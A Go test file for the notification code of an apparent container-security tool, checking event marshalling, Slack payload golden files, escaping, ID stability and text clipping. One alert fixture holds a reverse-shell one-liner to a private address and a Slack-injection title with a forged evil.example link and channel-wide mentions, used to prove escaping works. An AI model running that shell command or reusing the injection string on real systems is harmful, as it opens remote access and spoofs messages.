package notify

import (
	"bytes"
	"encoding/json"
	"flag"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkdev/bulwark/internal/model"
	"github.com/bulwarkdev/bulwark/internal/testenv"
)

var update = flag.Bool("update", false, "rewrite golden files under testdata/")

func golden(t *testing.T, name string, got []byte) { testenv.Golden(t, name, got, *update) }

// fixtures: one event of each kind, the last with text that needs escaping.
func fixtures() []Event {
	return []Event{
		{
			ID: NewID(KindFinding, "sha256:9f86d081", "CVE-2026-1234"), Kind: KindFinding, Severity: model.SeverityCritical,
			Title:         "CVE-2026-1234 in openssl 3.0.1 on running image nginx:1.27",
			Resource:      Resource{Kind: model.KindImage, ID: "sha256:9f86d081", Name: "registry.example/nginx:1.27"},
			Rule:          "VULN-image",
			Vulnerability: "CVE-2026-1234",
			Detail:        "openssl 3.0.1 is affected; fixed in 3.0.2. Runs in 3 containers.",
			URL:           "https://bulwark.example/images/sha256:9f86d081",
			At:            time.Date(2026, 12, 6, 6, 0, 0, 0, time.FixedZone("CET", 3600)),
		},
		{
			ID: NewID(KindRecommendation, "REC-PRIVILEGED", "prod/default/Deployment/web"), Kind: KindRecommendation, Severity: model.SeverityHigh,
			Title:          "Privileged containers should be avoided",
			Resource:       Resource{Kind: model.KindWorkload, ID: "prod/default/Deployment/web", Name: "web"},
			Rule:           "BW-PSS-PRIVILEGED",
			Recommendation: "REC-PRIVILEGED",
			At:             time.Date(2026, 12, 6, 5, 0, 0, 0, time.UTC),
		},
		{
			ID: "alert-7", Kind: KindAlert, Severity: model.SeverityMedium,
			Title:    `Shell in <b>web</b> & "friends" <!channel> @all <https://evil.example|click>`,
			Resource: Resource{Kind: model.KindContainer, ID: "3f1c9a0b2d4e"},
			Rule:     "K8S.NODE_ReverseShell",
			Detail:   "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
			At:       time.Date(2026, 12, 6, 5, 0, 0, 0, time.UTC),
		},
	}
}

func TestEventDocumentGolden(t *testing.T) {
	var out bytes.Buffer
	for _, e := range fixtures() {
		if err := e.Validate(); err != nil {
			t.Fatal(err)
		}
		b, err := Marshal(e)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.ContainsRune(b, '\n') {
			t.Errorf("document spans lines: %s", b)
		}
		out.Write(b)
		out.WriteByte('\n')
	}
	golden(t, "events.golden.jsonl", out.Bytes())
}

func TestSlackPayloadGolden(t *testing.T) {
	var out bytes.Buffer
	for _, e := range fixtures() {
		b, err := slackPayload(e.normalized())
		if err != nil {
			t.Fatal(err)
		}
		var pretty bytes.Buffer
		if err := json.Indent(&pretty, b, "", "  "); err != nil {
			t.Fatal(err)
		}
		out.Write(pretty.Bytes())
		out.WriteByte('\n')
	}
	golden(t, "slack.golden.json", out.Bytes())
}

// TestSlackEscaping: whatever text the event carries, no '<' or '>' reaches
// a text field (no forged link, no <!channel>), '&' only as an entity, and
// '@' cannot form a mention.
func TestSlackEscaping(t *testing.T) {
	e := fixtures()[2].normalized()
	b, err := slackPayload(e)
	if err != nil {
		t.Fatal(err)
	}
	var msg slackMessage
	if err := json.Unmarshal(b, &msg); err != nil {
		t.Fatal(err)
	}
	a := msg.Attachments[0]
	texts := []string{msg.Text, a.Fallback, a.Title, a.Text, a.Footer}
	for _, f := range a.Fields {
		texts = append(texts, f.Value)
	}
	for _, s := range texts {
		if strings.ContainsAny(s, "<>") {
			t.Errorf("unescaped angle bracket in %q", s)
		}
		if strings.Contains(strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(s, "&amp;", ""), "&lt;", ""), "&gt;", ""), "&") {
			t.Errorf("bare & in %q", s)
		}
		if strings.Contains(s, "@all") {
			t.Errorf("mention survives in %q", s)
		}
	}
	if !strings.Contains(a.Title, "&lt;!channel&gt;") || !strings.Contains(a.Text, "&gt;&amp; /dev/tcp") {
		t.Errorf("escaped text not as expected: %q / %q", a.Title, a.Text)
	}
	if a.TitleLink != "" {
		t.Errorf("title_link %q for an event without URL", a.TitleLink)
	}
}

func TestNewIDStable(t *testing.T) {
	a := NewID(KindFinding, "img", "CVE-1")
	if a != NewID(KindFinding, "img", "CVE-1") {
		t.Error("same parts, different ids")
	}
	for _, other := range []string{NewID(KindAlert, "img", "CVE-1"), NewID(KindFinding, "imgC", "VE-1"), NewID(KindFinding, "img", "CVE-1", "")} {
		if other == a {
			t.Errorf("different parts, same id %s", a)
		}
	}
	if !strings.HasPrefix(a, "finding-") {
		t.Errorf("id %s", a)
	}
}

func TestClip(t *testing.T) {
	for _, c := range []struct {
		in   string
		n    int
		want string
	}{
		{"short", 10, "short"},
		{"abcdefghijkl", 8, "abcde…"},
		{"ääääää", 8, "ää…"}, // never cuts inside a rune
		{"a\xffb", 10, "a\uFFFDb"},
	} {
		if got := clip(c.in, c.n); got != c.want {
			t.Errorf("clip(%q, %d) = %q, want %q", c.in, c.n, got, c.want)
		}
	}
}
